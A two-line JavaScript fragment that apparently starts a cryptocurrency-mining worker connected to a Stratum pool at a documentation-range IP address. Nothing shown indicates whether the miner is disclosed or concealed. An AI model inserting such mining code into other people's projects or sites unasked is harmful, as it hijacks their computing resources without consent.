const pool = 'stratum+tcp://203.0.113.5:4444';
require('./worker').start(pool);
